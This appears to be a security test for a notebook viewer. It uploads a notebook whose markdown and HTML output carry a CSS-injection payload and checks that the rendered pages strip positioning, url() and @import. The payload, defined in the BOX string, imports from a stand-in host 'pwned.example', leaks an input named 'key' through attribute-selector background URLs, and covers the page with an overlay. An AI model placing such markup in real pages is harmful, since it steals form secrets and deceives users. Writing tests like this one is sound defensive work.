"""
intent: Cover the desk with a box of one's own, and load what tells who reads what.
outcome: Positions, addresses and sheets are taken out, and the box could only fill its frame.
"""

from tests import fakes
from tests.class_attacks import Told, desk_pages

BOX = (
    "<style>@import '//pwned.example/x.css'; input[name=key][value^=a] "
    "{background: url(//pwned.example/a)} body {display: none}</style>"
    '<div style="position:fixed;inset:0;z-index:9;background:url(//pwned.example)">pwned-20</div>'
    '<div style="background:u\\72l(//pwned.example);margin:-99em;width:expression(pwned())">x</div>'
)


def upload() -> dict[str, bytes]:
    output = {"output_type": "display_data", "metadata": {}, "data": {"text/html": BOX}}
    cells = [
        {"cell_type": "markdown", "source": BOX, "metadata": {}},
        {"cell_type": "code", "source": "1", "metadata": {}, "execution_count": 1,
         "outputs": [output]},
    ]  # fmt: skip
    return {"lab.ipynb": fakes.notebook("pass # mallory", cells=cells)}


def check(told: Told) -> None:
    pages = desk_pages(told.out)
    notebooks = [page for path, page in pages.items() if path.startswith("/notebook/")]
    assert any("pwned-20" in page for page in notebooks)
    for page in notebooks:
        own = page.partition("</head>")[2]
        assert "position" not in own
        assert "url(" not in own
        assert "@import" not in own
